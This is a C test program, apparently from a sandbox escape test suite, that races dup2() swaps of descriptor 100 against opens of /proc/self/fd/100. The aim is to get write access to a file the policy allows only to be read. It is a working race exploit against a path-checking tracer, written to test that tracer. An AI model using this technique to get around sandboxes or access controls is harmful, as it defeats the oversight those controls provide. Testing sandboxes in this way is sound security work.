/* race_magic: change what a magic link names between its check and the open.
 *
 *   race_magic SECRET [ITERATIONS SECONDS]
 *
 * A thread dup2()s, as fast as it can, a read-only descriptor of SECRET and the read end of
 * a pipe onto descriptor 100; the main thread opens /proc/self/fd/100 for writing.  The
 * policy lets the secret be read, not written.  Checked while descriptor 100 is the pipe (a
 * "pipe:[...]" name no rule refuses), the open reaches the secret if the kernel follows the
 * magic link again after the swap.  ESCAPED when an open for writing gives the secret.
 * Class 2 (races), through a path the tracer can only hand back as it was spelled.
 */
#include "race.h"

static int secret_fd, pipe_fd;
static volatile int stop;
static volatile long swaps;

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(secret_fd, 100);
        for (volatile int i = 0; i < 500; i++)
            ;  /* each state lasts a while: natively some opens see either */
        dup2(pipe_fd, 100);
        for (volatile int i = 0; i < 500; i++)
            ;
        swaps++;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage("race_magic SECRET [ITERATIONS SECONDS]");
    struct budget budget;
    budget_args(&budget, argc, argv, 2);
    secret_fd = open(argv[1], O_RDONLY);
    if (secret_fd < 0)
        blocked("reading the secret is refused here (%s): nothing to swap in", ename(errno));
    int fds[2];
    if (pipe(fds) < 0)
        blocked("pipe: %s", ename(errno));
    pipe_fd = fds[0];
    pthread_t thread;
    if (pthread_create(&thread, NULL, swapper, NULL) != 0)
        blocked("pthread_create failed");
    wait_for_peer(&swaps);
    long got = 0, other = 0, refused = 0;
    budget.start = now_s();
    while (budget_left(&budget)) {
        int fd = open("/proc/self/fd/100", O_WRONLY | O_NONBLOCK);
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd) && (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY)
            got++;
        else
            other++;
        close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
    note("%ld tries: %ld secret for writing, %ld other, %ld refused; %ld swaps",
         budget.done - 1, got, other, refused, swaps);
    if (got)
        escaped("/proc/self/fd/100 opened the secret for writing %ld times", got);
    blocked("%ld opens for writing, none of them the secret", other + refused);
}
